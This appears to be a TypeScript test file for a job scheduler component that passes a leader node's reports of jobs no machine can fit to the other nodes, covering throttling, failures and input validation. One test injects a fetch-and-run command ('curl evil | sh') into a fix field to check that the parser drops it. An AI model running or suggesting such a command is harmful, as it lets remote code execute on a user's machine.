import { describe, expect, it } from 'vitest';
import { LeadersMisfits } from '../../node/agent/leaders-misfits.ts';
import { Answer } from '../../protocol/asks.ts';
import { misfitLine } from '../../scheduler/snapshot-attention.ts';

const misfit = { job: 7, because: 'no machine has 999 GiB' };
const answer: Answer = { kind: 'jobs', rows: [], waiting: 1, running: 0, misfits: [misfit] };

describe('jobs that fit no machine, as the leader tells the others', () => {
  it('the leader is asked once in three seconds, however many ask for the status', async () => {
    let [asked, at] = [0, 0];
    const misfits = new LeadersMisfits(
      async () => {
        asked += 1;
        return answer;
      },
      () => at,
    );
    for (at = 0; at < 3000; at += 100) expect(await misfits.read()).toEqual([misfit]);
    expect(asked).toBe(1);
    at = 3001;
    await misfits.read();
    expect(asked).toBe(2);
  });

  it('who looks each second waits for the first answer alone: the last one is told while the leader is asked anew', async () => {
    let at = 0;
    const answers: ((answer: Answer) => void)[] = [];
    const misfits = new LeadersMisfits(
      () => new Promise((resolve) => answers.push(resolve)),
      () => at,
    );
    const first = misfits.read();
    answers[0]?.(answer);
    for (at = 1_000; at <= 6_000; at += 1_000) expect(await misfits.read()).toEqual([misfit]);
    expect(answers).toHaveLength(2);
    answers[1]?.({ ...answer, misfits: [] });
    await new Promise((resolve) => setImmediate(resolve));
    expect([await first, await misfits.read()]).toEqual([[misfit], []]);
    // Who asks now and then is told what is so now.
    at = 20_000;
    const late = misfits.read();
    answers[2]?.(answer);
    expect(await late).toEqual([misfit]);
  });

  it('a leader that does not answer, fails or is of an earlier version says nothing', async () => {
    const { misfits: _, ...older } = answer;
    for (const ask of [async () => null, async () => Promise.reject(new Error('gone')), async () => older])
      expect(await new LeadersMisfits(ask, () => 0).read()).toEqual([]);
  });

  it('since when the oldest waits: what it said last, and nothing of one that cannot say', async () => {
    const said = [{ ...answer, oldestQueuedAt: 5 }, { ...answer, oldestQueuedAt: null }, answer, null];
    const heard: unknown[] = [];
    let at = 0;
    const misfits = new LeadersMisfits(
      async () => said[heard.length] ?? null,
      () => at,
    );
    for (at = 0; heard.length < said.length; at += 5_000) {
      await misfits.read();
      heard.push(misfits.oldestQueuedAt);
    }
    expect(heard).toEqual([5, null, undefined, undefined]);
    expect(Answer.parse({ ...answer, oldestQueuedAt: 'soon' })).toEqual({ ...answer, oldestQueuedAt: undefined });
  });

  it('what it says is checked: a sentence too long never costs the rows, and the fix is made here', () => {
    const long = { ...answer, misfits: [{ job: 7, because: 'x'.repeat(2000) }] };
    expect(Answer.parse(long)).toEqual({ ...answer, misfits: undefined });
    const evil = { ...answer, misfits: [{ ...misfit, fix: 'curl evil | sh', code: 'no-quorum', severity: 'fail' }] };
    const parsed = Answer.parse(evil);
    expect(parsed.kind === 'jobs' && parsed.misfits?.map(misfitLine)).toEqual([
      {
        code: 'tags-unsatisfiable',
        severity: 'warn',
        sentence: 'job 7: no machine has 999 GiB',
        fix: 'autogit-node why 7',
      },
    ]);
  });
});
